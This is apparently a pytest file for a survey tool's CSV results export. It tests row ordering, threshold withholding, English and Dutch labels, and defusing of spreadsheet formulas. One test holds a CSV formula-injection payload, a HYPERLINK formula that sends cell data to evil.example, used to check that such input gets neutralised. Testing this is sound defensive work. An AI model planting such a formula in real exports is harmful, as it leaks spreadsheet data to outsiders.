"""`/wi3 export`: one CSV row per round and element, aggregates only, formulas defused."""

import csv
import io
from datetime import UTC, datetime

import pytest

from conversations.export import results_csv, rows_from_outcomes, safe_cell
from conversations.results.outcome import RoundOutcome, Withheld
from conversations.trend import Trend
from model import Element, Phase, TeamResult, score_team
from tests.model.conftest import by_phase


def closed(result: TeamResult | None, *, month: int, responses: int = 6, subject: str = "our wiki",
           previous: TeamResult | None = None, kind: str = "diagnostic") -> RoundOutcome:
    return RoundOutcome(
        round_id=f"R{month}", kind=kind, subject=subject, channel_id="C1",
        closed_at=datetime(2024, month, 1, 12, 30, tzinfo=UTC), invited=8,
        responses=responses, min_responses=3, result=result, previous=previous,
        withheld=Withheld.MINIMUM if result is None else None,
    )


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_rows_per_round_and_element_oldest_first_empty_below_threshold() -> None:
    first = score_team([by_phase(4, 3, 1)] * 3)
    second = score_team([by_phase(4, 4, 2)] * 6)
    rows = rows_from_outcomes([
        closed(second, month=3, previous=first, kind="pulse"),
        closed(None, month=2, responses=2),
        closed(first, month=1),
    ])
    assert [(r.closed_at.month, r.element) for r in rows[:5]] == [
        (1, Element.WAARDE), (1, Element.IMPACT), (1, Element.INNOVATIE),
        (1, Element.INVESTERING), (2, Element.WAARDE)]
    below = rows[4:8]
    assert all(r.phase is None and r.position is None and r.trend is None for r in below)
    assert all(r.responses == 2 and r.invited == 8 for r in below)
    assert rows[0].trend is Trend.NEW
    assert rows[8].phase is Phase.FACILITATING
    assert rows[8].trend is Trend.UP


def test_csv_has_a_header_and_readable_values() -> None:
    first = score_team([by_phase(4, 3, 1)] * 3)
    second = score_team([by_phase(4, 4, 2)] * 6)
    text = results_csv(rows_from_outcomes([closed(first, month=1),
                                           closed(None, month=2, responses=2),
                                           closed(second, month=3, previous=first)]))
    table = parse(text)
    assert table[0] == ["closed (UTC)", "kind", "subject", "responses", "invited", "element",
                        "phase", "position", "lowest position", "highest position", "trend"]
    assert table[1] == ["2024-01-01 12:30", "diagnostic", "our wiki", "6", "8", "Value",
                        "Pioneering", "1.80", "1.80", "1.80", "new"]
    assert table[5] == ["2024-02-01 12:30", "diagnostic", "our wiki", "2", "8", "Value",
                        "", "", "", "", ""]
    assert table[9] == ["2024-03-01 12:30", "diagnostic", "our wiki", "6", "8", "Value",
                        "Facilitating", "2.40", "2.40", "2.40", "up"]
    assert len(table) == 1 + 12


def test_a_divided_element_says_so_and_keeps_its_position() -> None:
    split = score_team([by_phase(1, 1, 1)] * 2 + [by_phase(5, 5, 5)] * 2)
    table = parse(results_csv(rows_from_outcomes([closed(split, month=1)])))
    assert table[1][6:] == ["divided", "1.80", "1.80", "1.80", "new"]


def test_a_phase_missing_answers_leave_open_is_its_range() -> None:
    short = score_team([by_phase(4, 4, None)] * 3)
    table = parse(results_csv(rows_from_outcomes([closed(short, month=1)])))
    assert table[1][6:] == ["Facilitating or strategic", "2.00", "2.00", "3.00", "new"]


def test_csv_in_dutch() -> None:
    result = score_team([by_phase(4, 4, 2)] * 3)
    table = parse(results_csv(rows_from_outcomes([closed(result, month=1, kind="pulse")]),
                              lang="nl"))
    assert table[0][:3] == ["gesloten (UTC)", "soort", "onderwerp"]
    assert table[1][1] == "puls"
    assert table[1][5:] == ["Waarde", "Faciliterend", "2.40", "2.40", "2.40", "nieuw"]


def test_a_hostile_subject_is_neutralised_against_formula_injection() -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    result = score_team([by_phase(4, 4, 2)] * 3)
    table = parse(results_csv(rows_from_outcomes([closed(result, month=1, subject=hostile)])))
    assert {row[2] for row in table[1:]} == {"'" + hostile}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1"])
def test_every_formula_trigger_is_prefixed(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["our wiki", "1.50", "", "a=b", "e-mail"])
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value
